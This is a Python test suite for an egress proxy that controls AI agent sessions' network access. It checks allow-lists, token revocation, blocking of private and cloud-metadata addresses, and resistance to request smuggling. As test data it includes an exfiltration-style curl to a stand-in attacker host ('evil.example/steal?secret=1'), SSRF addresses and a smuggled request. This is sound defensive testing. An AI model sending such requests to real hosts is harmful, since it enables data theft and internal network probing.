"""The proxy by its socket: who gets through, what is carried, what is told."""

import os
import socket
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import LazySettings
from django.db import OperationalError

from apps.accounts.services import session_token_create, session_tokens_revoke
from apps.agents.services import agent_config_save
from apps.agents.sync import agents_sync
from apps.core.models import Event
from apps.sessions.egress import egress_records_add
from apps.sessions.models import AgentSession, EgressRecord
from apps.sessions.services import session_create
from tests.support.egress import NAME, Site
from tests.support.live import eventually, free_port
from workers.egress import server
from workers.runtime.forward import forward_start

AGENT = "yukihiro"


@dataclass
class Box:
    """What a box has: a session, its token, and a port that leads to the proxy."""

    session: AgentSession
    token: str
    port: int

    @property
    def environment(self) -> dict[str, str]:
        proxy = f"http://127.0.0.1:{self.port}"
        return {"PATH": os.environ["PATH"], "http_proxy": proxy, "https_proxy": proxy}

    def curl(self, *arguments: str, given: str = "") -> "subprocess.CompletedProcess[str]":
        return subprocess.run(
            ["curl", "-sS", "--max-time", "20", *arguments],
            env=self.environment,
            input=given,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    def records(self) -> dict[tuple[str, str], EgressRecord]:
        return {(row.host, row.verdict): row for row in self.session.egress.all()}

    def told(self) -> list[tuple[str, str]]:
        rows = Event.objects.filter(session_id=self.session.pk, type="NETWORK_BLOCKED")
        return [(row.payload["host"], row.payload["reason"]) for row in rows.order_by("id")]


@pytest.fixture
def box(egress: Path) -> Box:
    agents_sync()
    session = session_create(source=AgentSession.Source.API, agent_id=AGENT)
    token = session_token_create(session_id=session.pk, agent_id=AGENT)
    port = free_port()
    forward_start(socket=str(egress), port=port, token=token)
    return Box(session, token, port)


def test_listed_hosts_are_reached_and_counted(box: Box, site: Site) -> None:
    assert box.curl(f"{site.url}/hello.txt").stdout == "hello\n"
    assert box.curl("--proxytunnel", f"{site.url}/hello.txt").stdout == "hello\n"
    # The site learns nothing of the session. So large a body waits for `100 Continue`.
    big = "x" * 2_000_000
    sent = box.curl("--data-binary", "@-", f"{site.url}/echo", given=big)
    assert sent.stdout == big
    headers = {name.lower() for _, found, _ in site.requests for name in found}
    assert "proxy-authorization" not in headers
    assert box.token not in str(site.requests)
    eventually(lambda: box.records().get((NAME, "allowed")))
    eventually(lambda: box.records()[NAME, "allowed"].count == 3)
    eventually(lambda: box.records()[NAME, "allowed"].bytes_received > 0)
    assert box.told() == []


def test_one_connection_carries_many_requests(box: Box, site: Site) -> None:
    done = box.curl(*[f"{site.url}/hello.txt"] * 5, "-w", "%{num_connects}")
    assert done.stdout.replace("hello\n", "") == "10000"


def test_blocked_hosts_are_refused_with_a_reason_and_told_once(box: Box) -> None:
    for _ in range(3):
        plain = box.curl("-w", "%{http_code}", "http://evil.example/steal?secret=1")
        assert plain.stdout.endswith("403")
        assert "evil.example:80 is not on this agent's allow-list" in plain.stdout
    tunnel = box.curl("https://evil.example/")
    assert tunnel.returncode == 56
    assert "403" in tunnel.stderr
    eventually(lambda: len(box.told()) == 2)
    assert box.told() == [("evil.example", "not_listed")] * 2  # two ports
    rows = box.session.egress.order_by("port")
    eventually(lambda: [(row.port, row.count) for row in rows.all()] == [(80, 3), (443, 1)])


def test_the_agents_own_config_decides(box: Box, site: Site, settings: LazySettings) -> None:
    settings.EGRESS_ALLOW = []
    assert "not on this agent's allow-list" in box.curl(f"{site.url}/hello.txt").stdout
    _configure(egress_allow=[site.place])
    eventually(lambda: box.curl(f"{site.url}/hello.txt").stdout == "hello\n", timeout_s=20)
    _configure(egress="none")
    eventually(
        lambda: "may not use the network" in box.curl(f"{site.url}/hello.txt").stdout, timeout_s=20
    )


def test_private_addresses_are_refused_in_every_form(box: Box) -> None:
    _configure(egress="open")
    for host in ("10.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254", "127.0.0.1"):
        answer = box.curl(f"http://{host}:8000/")
        assert "DjinnBot:" in answer.stdout, (host, answer)


def test_without_a_living_token_nobody_gets_out(box: Box, egress: Path, site: Site) -> None:
    for token in ("", "dst_wrong", "djb_key"):
        assert _status(egress, site, token) == 407
    assert _status(egress, site, box.token) == 200
    session_tokens_revoke(box.session.pk)
    eventually(lambda: _status(egress, site, box.token) == 407, timeout_s=20)


@pytest.mark.parametrize(
    "request_line",
    [
        b"GET / HTTP/1.1",
        b"GET ftp://evil.example/ HTTP/1.1",
        b"CONNECT evil.example HTTP/1.1",
        b"CONNECT evil.example:99999 HTTP/1.1",
        b"CONNECT a\x00b:443 HTTP/1.1",
        b"\x16\x03\x01 nonsense",
    ],
)
def test_malformed_requests_end_with_an_answer_or_a_close(
    box: Box, egress: Path, request_line: bytes
) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(20)
        client.connect(str(egress))
        token = f"Proxy-Authorization: Bearer {box.token}\r\n".encode()
        client.sendall(request_line + b"\r\n" + token + b"Host: evil.example\r\n\r\n")
        answer = client.makefile("rb").read()
    assert answer == b"" or answer.startswith(b"HTTP/1.1 400")


def test_a_second_request_is_judged_by_itself(box: Box, egress: Path, site: Site) -> None:
    """No smuggling: what follows the first request on its connection is a request of its own."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(20)
        client.connect(str(egress))
        first = (
            f"POST {site.url}/echo HTTP/1.1\r\nHost: {site.place}\r\n"
            f"Proxy-Authorization: Bearer {box.token}\r\nContent-Length: 4\r\n\r\nbody"
        )
        second = "GET http://evil.example/ HTTP/1.1\r\nHost: packages.test\r\n\r\n"
        client.sendall((first + second).encode())
        answer = client.makefile("rb").read()
    assert answer.count(b"HTTP/1.1 200") == 1
    assert answer.count(b"HTTP/1.1 403") == 1
    assert [path for path, _, _ in site.requests] == ["/echo"]


def test_a_database_that_is_away_loses_no_count_and_lets_nobody_out(
    box: Box, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    writer = "workers.egress.records.egress_records_add"
    assert box.curl(f"{site.url}/hello.txt").stdout == "hello\n"
    failed = []

    def away(*_: object) -> None:
        failed.append(1)
        raise OperationalError("away")

    monkeypatch.setattr(writer, away)
    assert box.curl(f"{site.url}/hello.txt").stdout == "hello\n"
    eventually(lambda: failed)
    monkeypatch.setattr(writer, egress_records_add)
    eventually(lambda: (row := box.records().get((NAME, "allowed"))) and row.count == 2)

    def no_policy(_: str) -> None:
        raise OperationalError("away")

    monkeypatch.setattr(server, "egress_policy", no_policy)
    eventually(
        lambda: box.curl("-w", "%{http_code}", site.url).stdout.endswith("407"), timeout_s=20
    )


def _configure(**values: object) -> None:
    agent_config_save(agent_id=AGENT, version=None, user_id=None, values=values)


def _status(egress: Path, site: Site, token: str) -> int:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(20)
        client.connect(str(egress))
        credential = f"Proxy-Authorization: Bearer {token}\r\n" if token else ""
        head = f"GET {site.url}/hello.txt HTTP/1.1\r\nHost: {site.place}\r\n{credential}\r\n"
        client.sendall(head.encode())
        return int(client.recv(4096).split()[1])
